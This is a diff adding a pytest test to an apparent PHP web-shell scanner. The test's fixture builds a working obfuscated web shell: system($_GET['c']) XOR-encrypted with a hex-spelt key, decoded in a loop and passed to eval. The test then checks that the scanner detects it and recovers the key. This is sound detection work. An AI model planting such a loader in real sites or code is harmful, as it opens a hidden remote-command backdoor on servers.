@@ -1395,3 +1395,23 @@ def test_a_payload_under_the_pages_own_xor_cipher_is_decoded(
     assert scan(ruleset, tmp_path, "x.php", page) == {"T_System_Get": "strrev > hex2bin > xor"}
     # without the key in the page, nothing decodes to code
     assert payload.unxor(bytes.fromhex(hexed[::-1].decode()), [b"nope"]) is None
+
+
+@pytest.mark.parametrize("turned", [False, True], ids=["forwards", "strrev"])
+def test_a_key_spelt_in_hex_is_a_key(ruleset: RuleSet, tmp_path: Path, turned: bool) -> None:
+    # the page spells its key in hex, decodes it in a loop (and may turn it with strrev)
+    key = b"Zq9!kL2#pW"
+    code = b"<?php system($_GET['c']); ?>" + b"<p>padding</p>" * 8
+    stream = (key * len(code))[: len(code)]
+    hexed = bytes(a ^ b for a, b in zip(code, stream, strict=True)).hex().encode()
+    spelt = (key[::-1] if turned else key).hex().encode()
+    page = (
+        b'<?php $s = "' + spelt + b"\"; $k = '';"
+        b" for ($i = 0; $i < strlen($s); $i += 2) { $k .= chr(hexdec($s[$i] . $s[$i + 1])); }"
+        + (b" $k = strrev($k);" if turned else b"")
+        + b' function dx($h, $k) { $d = hex2bin($h); $o = "";'
+        b" for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % strlen($k)]; }"
+        b' return $o; }\n$p = "' + hexed + b"\";\neval('?>' . dx($p, $k));"
+    )
+    assert scan(ruleset, tmp_path, "x.php", page) == {"T_System_Get": "hex2bin > xor"}
+    assert key in payload.xor_keys(page)
